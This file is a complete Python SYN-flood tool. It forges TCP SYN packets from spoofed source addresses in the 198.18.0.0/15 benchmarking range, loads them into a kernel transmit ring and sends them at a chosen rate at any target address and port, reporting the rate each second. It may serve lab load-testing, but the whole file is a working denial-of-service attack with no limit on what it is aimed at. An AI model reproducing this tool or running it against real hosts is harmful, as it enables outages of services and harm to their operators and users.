"""SYNs from forged addresses: flood.py INTERFACE ADDRESS PORT RATE [SECONDS]

As many a second as the machine can send, RATE at most, until its standard input ends (or for that
long). Frames lie in a ring that the kernel sends from (PACKET_TX_RING); their sources are 16384
addresses and ports of 198.18.0.0/15 (RFC 2544), which are reached through a router, if at all.
Prints each second how many that were.
"""
import fcntl
import mmap
import random
import select
import socket
import struct
import sys
import time

SOL_PACKET, PACKET_VERSION, PACKET_TX_RING = 263, 10, 13
PACKET_QDISC_BYPASS = 20
SIOCGIFHWADDR = 0x8927
SLOT, COUNT = 256, 16384
# struct tpacket2_hdr is 32 bytes; data follows at this offset.
DATA = 32
SEND = struct.pack("=I", 1)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def neighbor(address):
    """Its Ethernet address, once the kernel has it."""
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(1000):
        with open("/proc/net/arp") as table:
            for line in table:
                fields = line.split()
                if fields[0] == address and fields[2] != "0x0":
                    return bytes.fromhex(fields[3].replace(":", ""))
        probe.sendto(b"", (address, 9))
        time.sleep(0.01)
    sys.exit(f"{address} does not answer")


def frame(ethernet, address, port, number):
    draw = random.Random(number)
    source = struct.pack("!I", 0xC6120000 | draw.getrandbits(17))
    ports = struct.pack("!HH", 1024 + draw.randrange(60000), port)
    options = bytes([2, 4, 5, 180, 4, 2, 8, 10]) + struct.pack("!II", draw.getrandbits(32), 0)
    options += bytes([1, 3, 3, 7])
    tcp = ports + struct.pack("!IIBBHHH", draw.getrandbits(32), 0, 0xA0, 2, 64240, 0, 0) + options
    pseudo = source + address + struct.pack("!HH", 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), number & 0xFFFF, 0, 64, 6, 0)
    ip += source + address
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ethernet + ip + tcp


def main(interface, address, port, rate, seconds=None):
    rate = int(rate)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    own = fcntl.ioctl(s, SIOCGIFHWADDR, struct.pack("256s", interface.encode()))[18:24]
    ethernet = neighbor(address) + own + b"\x08\x00"
    s.setsockopt(SOL_PACKET, PACKET_VERSION, 1)
    s.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
    block = 1 << 20
    layout = struct.pack("IIII", block, SLOT * COUNT // block, SLOT, COUNT)
    s.setsockopt(SOL_PACKET, PACKET_TX_RING, layout)
    s.bind((interface, 0))
    ring = mmap.mmap(s.fileno(), SLOT * COUNT)
    binary = socket.inet_aton(address)
    for i in range(COUNT):
        data = frame(ethernet, binary, int(port), i)
        at = i * SLOT
        ring[at + 4 : at + 8] = struct.pack("=I", len(data))
        ring[at + DATA : at + DATA + len(data)] = data
    sys.stdout.write("flooding\n")
    sys.stdout.flush()
    start, sent, at = time.monotonic(), 0, 0
    told, told_at = 0, start
    batch = max(1, min(1024, rate // 200))
    end = start + float(seconds) if seconds else None
    while True:
        now = time.monotonic()
        if end and now >= end or not end and select.select([0], [], [], 0)[0]:
            break
        if now - told_at >= 1:
            print(f"{(sent - told) / (now - told_at):.0f} SYNs a second", flush=True)
            told, told_at = sent, now
        ahead = sent / rate - (now - start)
        if ahead > 0:
            time.sleep(min(ahead, 0.05))
            continue
        for i in range(at, at + batch):
            slot = i % COUNT * SLOT
            ring[slot : slot + 4] = SEND
        try:
            s.send(b"")
        except OSError:
            continue
        at = (at + batch) % COUNT
        sent += batch


main(*sys.argv[1:])
